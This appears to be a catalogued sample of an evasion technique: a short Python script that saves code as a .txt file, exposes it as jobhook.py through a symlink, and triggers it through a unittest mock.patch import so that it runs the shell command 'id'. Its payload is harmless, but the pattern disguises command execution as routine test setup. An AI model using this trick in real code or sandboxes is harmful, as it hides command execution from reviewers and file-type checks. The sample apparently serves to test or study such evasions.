# class: second-stage | technique: payload saved as a .txt and exposed as jobhook.py with Path.symlink_to; unittest.mock.patch("jobhook.LIMIT") imports it to patch it | effect: runs `id` when the module is imported
from pathlib import Path
from unittest import mock

Path("jobhook_src.txt").write_text("import posix\nposix.system('id')\nLIMIT = 10\n")
Path("jobhook.py").symlink_to("jobhook_src.txt")

with mock.patch("jobhook.LIMIT", 1):
    print("limit patched for the test run")
